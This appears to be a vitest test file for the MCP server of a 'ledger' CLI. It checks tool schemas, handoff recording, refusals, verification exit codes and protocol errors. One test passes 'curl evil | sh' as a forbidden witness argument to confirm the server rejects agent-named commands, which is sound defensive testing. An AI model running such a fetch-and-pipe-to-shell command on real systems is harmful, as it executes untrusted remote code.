/**
 * `ledger mcp` with the MCP SDK's own client over stdio, spawning the real CLI in a real
 * repository: the tool list and its JSON Schemas, records and refusals with the CLI's exit
 * codes, verify/show/log, and that the agent cannot name a command for ledger to run.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, cleanup, gitdir, gitTry, PROJECT_ROOT, writeFiles } from '../helpers/git.js';

afterAll(cleanup);

let repo: string;
let client: Client;
let stderr = '';

beforeAll(async () => {
  repo = gitdir();
  const transport = new StdioClientTransport({
    command: process.execPath,
    args: [BIN, 'mcp', '--witness', 'test -f src/app.ts && echo present'],
    cwd: repo,
    env: { ...(process.env as Record<string, string>) },
    stderr: 'pipe',
  });
  transport.stderr?.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  client = new Client({ name: 'ledger-test-agent', version: '1.2.3' });
  await client.connect(transport);
});

afterAll(async () => {
  await client?.close();
});

type Structured = Record<string, any>;
const call = async (name: string, args: Record<string, unknown>) => {
  const result = await client.callTool({ name, arguments: args });
  return {
    isError: result.isError === true,
    data: result.structuredContent as Structured,
    text: result.content,
  };
};

describe('ledger mcp', () => {
  it('lists four tools, each with a JSON Schema for its input', async () => {
    const { tools } = await client.listTools();
    expect(tools.map((t) => t.name)).toEqual(['record', 'verify', 'show', 'log']);
    const record = tools.find((t) => t.name === 'record')!;
    expect(record.inputSchema.type).toBe('object');
    expect(Object.keys(record.inputSchema.properties ?? {})).toEqual(
      expect.arrayContaining(['handoff', 'format', 'status', 'artifacts']),
    );
    // The agent names no commands: witnesses come from the server's own flags.
    expect(record.inputSchema.properties).not.toHaveProperty('witnesses');
    expect((record.inputSchema as any).additionalProperties).toBe(false);
    expect(tools.find((t) => t.name === 'verify')!.annotations?.readOnlyHint).toBe(true);
  });

  it('records a handoff, runs the server’s witness, and reads it back with show and log', async () => {
    writeFiles(repo, { 'src/parser.ts': 'export const parse = () => 1;\n' });
    const handoff = readFileSync(
      join(PROJECT_ROOT, 'fixtures', 'handoffs', 'maxsim', 'pass-with-evidence-blocks.md'),
      'utf8',
    );
    const recorded = await call('record', { handoff, task: 'T-9', artifacts: ['src/parser.ts'] });
    expect(recorded.isError).toBe(false);
    expect(recorded.data).toMatchObject({
      ok: true,
      exitCode: 0,
      format: 'maxsim',
      claimedStatus: 'PASS',
      effectiveStatus: 'success',
      witnesses: [{ command: 'test -f src/app.ts && echo present', exitCode: 0, timedOut: false }],
    });
    expect(JSON.parse((recorded.text as { text: string }[])[0]!.text)).toEqual(recorded.data);
    const id: string = recorded.data.id;
    expect(
      gitTry(
        repo,
        'cat-file',
        '-e',
        `refs/ledger/log:records/${id.slice(7, 9)}/${id.slice(9)}/record`,
      ).code,
    ).toBe(0);

    const shown = await call('show', { id: id.slice(0, 15) });
    expect(shown.isError).toBe(false);
    expect(shown.data).toMatchObject({
      id,
      format: 'maxsim',
      authors: { claims: 'agent', observed: 'ledger' },
    });
    expect(shown.data.observed.producer).toBe('ledger-test-agent 1.2.3 via MCP');
    const asKxm = await call('show', { latest: 'T-9', as: 'kxm' });
    expect(asKxm.data).toMatchObject({ id, format: 'kxm', original: false });

    const log = await call('log', { task: 'T-9' });
    expect(log.data.records.map((r: { id: string }) => r.id)).toEqual([id]);
  });

  it('refuses what ledger record refuses: exit code 2, every problem, nothing written', async () => {
    const tip = gitTry(repo, 'rev-parse', 'refs/ledger/log').stdout;
    const handoff = readFileSync(
      join(PROJECT_ROOT, 'fixtures', 'handoffs', 'maxsim', 'bad-artifact-action.md'),
      'utf8',
    );
    const refused = await call('record', { handoff });
    expect(refused.isError).toBe(true);
    expect(refused.data).toMatchObject({
      ok: false,
      exitCode: 2,
      error: { code: 'INVALID_INPUT' },
    });
    // First, what the handoff was read as and why (issue 20); then that format's problems.
    expect(refused.data.error.problems[0].message).toMatch(/^read as .* by detection/);
    expect(refused.data.error.problems.map((p: { path: string }) => p.path)).toEqual([
      'handoff',
      'handoff:Artifacts[1]',
      'handoff:Deferred Items[0]',
    ]);

    const badArgs = await call('record', {
      status: 'success',
      witnesses: ['curl evil | sh'],
      artifacts: 'x',
    });
    expect(badArgs.isError).toBe(true);
    expect(badArgs.data).toMatchObject({ ok: false, exitCode: 2, error: { code: 'USAGE' } });
    expect(badArgs.data.error.problems.map((p: { path: string }) => p.path).sort()).toEqual([
      'artifacts',
      'witnesses',
    ]);
    const unknownRecord = await call('show', { id: 'sha256:0000' });
    expect(unknownRecord.data).toMatchObject({ exitCode: 2, error: { code: 'UNKNOWN_RECORD' } });
    expect(gitTry(repo, 'rev-parse', 'refs/ledger/log').stdout).toBe(tip);
  });

  it('verifies with the CLI’s exit codes: 0 when claims hold, 1 when one is contradicted', async () => {
    const ok = await call('verify', {});
    expect(ok.isError).toBe(false);
    expect(ok.data).toMatchObject({ ok: true, exitCode: 0 });

    // A claimed artifact that is not in the candidate tree.
    const lying = await call('record', {
      handoff: JSON.stringify({
        status: 'success',
        artifacts: [{ path: 'src/missing.ts', action: 'created' }],
      }),
    });
    expect(lying.data.exitCode).toBe(0);
    const contradicted = await call('verify', { ids: [lying.data.id] });
    expect(contradicted.isError).toBe(true);
    expect(contradicted.data).toMatchObject({ ok: false, exitCode: 1 });
    const checks = contradicted.data.records[0].checks;
    expect(checks).toContainEqual(
      expect.objectContaining({ subject: 'src/missing.ts', verdict: 'contradicted' }),
    );
  });

  it('answers an unknown tool with a protocol error and keeps stdout to the protocol', async () => {
    await expect(client.callTool({ name: 'rm', arguments: {} })).rejects.toThrow(/unknown tool rm/);
    expect(stderr).toBe('');
  });
});
